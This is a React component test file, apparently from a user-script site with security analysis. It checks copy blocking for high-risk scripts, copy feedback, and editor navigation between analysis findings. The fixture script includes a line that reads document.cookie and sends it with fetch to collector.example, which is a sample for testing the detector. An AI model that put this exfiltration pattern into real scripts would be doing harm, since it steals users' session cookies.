// @vitest-environment happy-dom

import { createTestHost, Surroundings, visitor } from "@scriptorium/remote-kit/host.test-support";
import { act, cleanup, fireEvent, render, screen } from "@testing-library/react";
import { afterEach, beforeEach, expect, it, vi } from "vitest";
import { leak, reportRows } from "../../script-security/analysis.test-support.ts";
import type { Analysis } from "../../script-security/analysis.ts";
import { CodeSection } from "./code-section.tsx";

const copied: string[] = [];
beforeEach(() => {
	copied.length = 0;
	vi.stubGlobal("navigator", {
		...navigator,
		clipboard: { writeText: async (text: string) => void copied.push(text) },
	});
});
afterEach(() => {
	cleanup();
	vi.useRealTimers();
	vi.unstubAllGlobals();
});

const script = {
	id: "6f1c2a34-9b7d-4c1e-8a55-0d6d8f6f9a10",
	slug: "table-to-csv",
	title: "Table to CSV",
	code: "one();\nconst a = document.cookie;\nfetch('https://collector.example/' + a);",
	versionId: "0a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d",
	riskLevel: "amber" as const,
};
const doubtful: Analysis = { ...leak, risk_level: "amber", score: 60 };

function open(at = "/ada/table-to-csv", code = script.code, analysis = doubtful) {
	const test = createTestHost(visitor, async () => Response.json(reportRows(analysis)));
	const { container } = render(
		<Surroundings host={test.host} at={at}>
			<CodeSection script={{ ...script, code }} onCopied={() => undefined} />
		</Surroundings>,
	);
	return { ...test, container };
}
const editor = (container: Element) =>
	vi.waitFor(() => {
		const root = container.querySelector("[data-code-editor]")?.shadowRoot;
		if (!root) throw new Error("no editor yet");
		return root;
	});

it("hands out neither text nor file of a High Risk version without consent", async () => {
	open(undefined, undefined, leak);
	const copy = screen.getByRole<HTMLButtonElement>("button", { name: "Copy the code of Table to CSV" });
	await vi.waitFor(() => expect(copy.disabled).toBe(true));
	expect(screen.queryByRole("link", { name: "Raw code of Table to CSV" })).toBeNull();
	fireEvent.click(copy);
	expect(copied).toEqual([]);
});

it("copies the code and says so for two seconds", async () => {
	const { notices } = open();
	vi.useFakeTimers();
	await act(async () => {
		fireEvent.click(screen.getByRole("button", { name: "Copy the code of Table to CSV" }));
	});
	expect(copied).toEqual([script.code]);
	expect(notices).toEqual(["success: Code copied to clipboard"]);
	act(() => {
		vi.advanceTimersByTime(1999);
	});
	expect(screen.getByRole("button", { name: "Copied!" })).toBeTruthy();
	act(() => {
		vi.advanceTimersByTime(1);
	});
	expect(screen.queryByRole("button", { name: "Copied!" })).toBeNull();
});

it("loads the editor for an address with a line, marks the findings and points at the line", async () => {
	const { container } = open("/ada/table-to-csv#L2");
	const root = await editor(container);
	await vi.waitFor(() => expect(root.querySelector("[data-pointed]")?.textContent).toBe("const a = document.cookie;"));
	await vi.waitFor(() => {
		const titles = [...root.querySelectorAll("[data-finding]")].map((mark) => mark.getAttribute("title"));
		expect(titles).toContain("Line 3: Critical: The page's cookies are sent to collector.example.");
	});
});

it("steps to a finding by its button", async () => {
	const { container } = open("/ada/table-to-csv#L1");
	fireEvent.click(await screen.findByRole("button", { name: "Next finding" }));
	const root = await editor(container);
	await vi.waitFor(() => expect(root.querySelector("[data-pointed]")?.textContent).toContain("fetch("));
	expect(screen.getByRole("status").textContent).toContain("Line 3: Critical:");
});

it("shows plain text where nobody points and the code is far away, and for very large scripts", async () => {
	expect(open().container.querySelector("[data-code-editor]")).toBeNull();
	cleanup();
	const { container } = open("/ada/table-to-csv#L2", `one();\n// ${"x".repeat(300_000)}`);
	await vi.waitFor(() => expect(container.querySelector("[data-pointed]")?.textContent).toContain("xxx"));
	expect(container.querySelector("[data-code-editor]")).toBeNull();
	expect(screen.getByRole("region", { name: "Code of Table to CSV" })).toBeTruthy();
});
